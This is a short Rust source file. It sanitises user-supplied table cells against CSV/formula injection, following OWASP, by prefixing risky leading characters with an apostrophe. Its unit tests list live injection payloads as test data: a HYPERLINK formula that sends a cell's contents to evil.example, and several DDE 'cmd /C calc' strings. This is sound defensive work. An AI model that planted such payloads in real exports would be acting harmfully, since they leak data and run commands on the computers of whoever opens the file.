//! Cells of a table that no spreadsheet computes.

use std::borrow::Cow;

/// A cell with what a visitor wrote: no formula in anybody's spreadsheet (OWASP, "CSV injection").
pub(crate) fn inert(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_begins_like_a_formula_stays_one() {
        for formula in [
            "=1+1",
            "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "-",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"));
        }
        for text in ["", "a=1", "1-1", "'=1", " =1", "ä", "2026-11-27T12:00:00Z"] {
            assert_eq!(inert(text), text);
        }
    }
}
